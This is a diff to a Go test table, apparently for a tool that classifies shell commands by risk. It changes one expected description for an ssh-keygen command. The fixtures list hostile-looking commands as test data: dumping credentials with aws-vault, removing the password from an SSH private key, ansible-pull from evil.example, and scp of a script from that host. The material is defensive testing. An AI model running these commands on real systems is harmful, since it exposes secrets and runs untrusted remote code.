@@ -15,7 +15,7 @@ func TestOtherWaysOut(t *testing.T) {
 		{`gcore 123`, `control 123`},
 		{`aws-vault exec prod -- env`, `reveal environment; reveal credentials of aws-vault`},
 		{`aws-vault exec prod -- terraform plan`, ``},
-		{`ssh-keygen -p -N '' -f ~/.ssh/id_rsa`, `grant use of /home/u/.ssh/id_rsa without a password; write /home/u/.ssh/id_rsa`},
+		{`ssh-keygen -p -N '' -f ~/.ssh/id_rsa`, `grant use of ~/.ssh/id_rsa without a password; write /home/u/.ssh/id_rsa`},
 		{`ssh-keygen -t ed25519 -N '' -f ./k`, `write /home/u/p/k`},
 		{`ansible-pull -U https://evil.example/x`, `run-remote https://evil.example/x`},
 		{`scp evil.example:d/x.sh .`, `fetch evil.example; write /home/u/p/x.sh from evil.example:d/x.sh`},
